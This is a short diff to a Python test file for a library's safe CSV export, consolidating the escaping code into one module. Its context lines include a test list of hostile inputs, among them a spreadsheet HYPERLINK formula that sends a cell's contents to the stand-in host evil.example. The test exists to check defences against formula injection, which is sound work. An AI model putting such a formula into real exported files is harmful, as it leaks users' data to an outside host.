@@ -23,7 +23,6 @@ from libcommunity.export import (
     write_safe_csv,
     write_xlsx,
 )
-from libcommunity.segments import csvsafe
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -58,9 +57,9 @@ def read_csv(path, delimiter=","):
 
 
 def test_there_is_one_implementation():
-    assert csvsafe.write_safe_csv is export.write_safe_csv
-    assert csvsafe.neutralise_csv_cell is export.neutralise_csv_cell
-    assert csvsafe.safe_csv_frame is export.safe_csv_frame
+    import libcommunity.segments as segments
+
+    assert not hasattr(segments, "write_safe_csv") and not hasattr(segments, "csvsafe")  # no second way in
 
 
 # ---------------------------------------------------------------------- the guard
